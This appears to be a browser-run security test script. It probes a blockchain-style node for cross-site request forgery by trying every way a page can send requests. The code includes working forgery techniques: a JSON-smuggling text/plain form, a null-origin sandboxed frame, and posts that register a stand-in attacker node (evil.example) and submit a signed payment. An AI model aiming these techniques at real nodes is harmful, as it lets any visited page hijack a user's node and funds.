// Tries every way in which a page can make a browser send a request. The query names the way (`by`).
// Arguments: the node's address, the owner's paths by method, a signed payment, and the callback for the results.
const [base, owner, payment, done] = arguments;
const PATIENCE = 8000;
const results = {};
const pending = [];

function attempt(by, path, start) {
  const url = `${base}${path}?by=${by}`;
  pending.push(new Promise((resolve) => {
    const end = (result) => { results[`${by} ${path}`] = result; resolve(); };
    setTimeout(end, PATIENCE, "no event");
    try { start(url, end); } catch (error) { end(`thrown: ${error.message}`); }
  }));
}

function element(name, attributes, end) {
  const made = document.createElement(name);
  made.onload = () => end("loaded");
  made.onerror = () => end("error");
  Object.assign(made, attributes);
  document.body.append(made);
  return made;
}

function form(url, end, attributes, fields, sandbox) {
  const frame = document.createElement("iframe");
  frame.name = `frame${Math.random()}`;
  document.body.append(frame);
  const inputs = Object.entries(fields).map(([name, value]) => {
    const input = document.createElement("input");
    [input.type, input.name, input.value] = ["hidden", name, value];
    return input;
  });
  const made = document.createElement("form");
  Object.assign(made, { action: url, target: frame.name, ...attributes });
  made.append(...inputs);
  if (sandbox) {
    // A sandboxed frame has no origin: its forms send `Origin: null`.
    frame.sandbox = "allow-scripts allow-forms";
    frame.srcdoc = `${made.outerHTML.replace(/target="[^"]*"/, "")}<script>document.forms[0].submit()</script>`;
    setTimeout(end, 1500, "sent");
    return;
  }
  document.body.append(made);
  frame.onload = () => end("loaded");
  made.submit();
}

const ask = (options) => (url, end) => fetch(url, options).then(
  async (answer) => end(answer.type === "opaque" ? "opaque" : `${answer.status} ${await answer.text()}`),
  () => end("failed"));

for (const path of owner.GET) {
  attempt("img", path, (url, end) => element("img", { src: url }, end));
  attempt("img-silent", path, (url, end) => element("img", { referrerPolicy: "no-referrer", src: url }, end));
  attempt("script", path, (url, end) => element("script", { src: url }, end));
  attempt("style", path, (url, end) => element("link", { rel: "stylesheet", href: url }, end));
  attempt("prefetch", path, (url, end) => element("link", { rel: "prefetch", href: url }, end));
  attempt("frame", path, (url, end) => element("iframe", { src: url }, end));
  attempt("sandbox", path, (url, end) => element("iframe", { sandbox: "allow-scripts", src: url }, end));
  attempt("object", path, (url, end) => element("object", { data: url }, end));
  attempt("video", path, (url, end) => element("video", { src: url }, end));
  attempt("form-get", path, (url, end) => form(url, end, { method: "get" }, { by: "form-get" }));
  attempt("fetch", path, ask({}));
  attempt("fetch-blind", path, ask({ mode: "no-cors", referrerPolicy: "no-referrer" }));
  attempt("fetch-head", path, ask({ mode: "no-cors", method: "HEAD" }));
  attempt("fetch-language", path, ask({ mode: "no-cors", headers: { "Accept-Language": "*", Accept: "application/json" } }));
  attempt("events", path, (url, end) => {
    const events = new EventSource(url);
    events.onerror = () => { events.close(); end("error"); };
  });
  attempt("socket", path, (url, end) => { new WebSocket(url.replace("http", "ws")).onerror = () => end("error"); });
}
const posts = { ...Object.fromEntries(owner.POST.map((path) => [path, '{"nodes": ["evil.example:7001"]}'])),
                "/transactions/new": payment };
for (const [path, body] of Object.entries(posts)) {
  // A text/plain form sends name=value. Split the JSON at the `=` of a signature, so that the form puts it back.
  const cut = body.indexOf("=") < 0 ? body.length : body.indexOf("=");
  const fields = { [body.slice(0, cut)]: body.slice(cut + 1) };
  attempt("form", path, (url, end) => form(url, end, { method: "post" }, fields));
  attempt("form-plain", path, (url, end) => form(url, end, { method: "post", enctype: "text/plain" }, fields));
  attempt("form-null", path, (url, end) => form(url, end, { method: "post", enctype: "text/plain" }, fields, true));
  attempt("beacon", path, (url, end) => { navigator.sendBeacon(url, body); setTimeout(end, 1500, "sent"); });
  attempt("post", path, ask({ method: "POST", body }));
  attempt("post-blind", path, ask({ method: "POST", body, mode: "no-cors", referrerPolicy: "no-referrer" }));
  attempt("post-json", path, ask({ method: "POST", body, headers: { "Content-Type": "application/json" } }));
  attempt("post-token", path, ask({ method: "POST", body, headers: { Authorization: "Bearer 0123456789abcdef" } }));
}
for (const path of owner.DELETE) attempt("delete", path, ask({ method: "DELETE" }));
Promise.all(pending).then(() => done(results));
